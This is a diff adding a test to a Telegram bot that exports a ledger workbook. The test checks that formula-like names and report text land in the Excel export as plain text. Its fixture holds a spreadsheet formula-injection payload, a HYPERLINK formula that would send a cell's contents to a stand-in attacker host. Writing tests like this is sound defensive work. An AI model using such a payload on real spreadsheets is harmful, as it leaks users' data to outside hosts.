@@ -77,6 +77,34 @@ async def test_export_sends_the_ledger_workbook(bot: BotHarness) -> None:
     assert rates["市发改委"][6] == "是" and rates["市财政局"][6] == "否"
 
 
+async def test_the_ledger_keeps_formula_like_text_as_text(
+    database_url: str, sessions: Sessions
+) -> None:
+    # A report text or a Telegram name that looks like a formula must not run in Excel.
+    await load_seed(sessions, year=2026)
+    name = '=HYPERLINK("http://attacker.example/?"&B3,"附件")'
+    contact = await liaison(sessions, NDRC, "市发改委", now=NOW, name=name)
+    await report_all(
+        sessions,
+        "市发改委",
+        numbers=[2],
+        period_start=date(2026, 6, 1),
+        period_end=date(2026, 6, 30),
+        due=date(2026, 6, 25),
+        now=NOW,
+        text="=1+1",
+        contact_id=contact,
+    )
+    async with running_bot(database_url, MovableClock(NOW)) as bot:
+        await bot.command(bot.user(COORDINATOR_ID, "督查室"), "/export")
+        [call] = bot.api.calls("sendDocument")
+    book = openpyxl.load_workbook(io.BytesIO(call.params["document"]["bytes"]))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells}
+    assert {"=1+1", name} <= texts  # shown as written
+
+
 async def test_liaisons_and_strangers_cannot_export(bot: BotHarness) -> None:
     for user_id in (NDRC, 6099):
         await bot.command(bot.user(user_id), "/export")
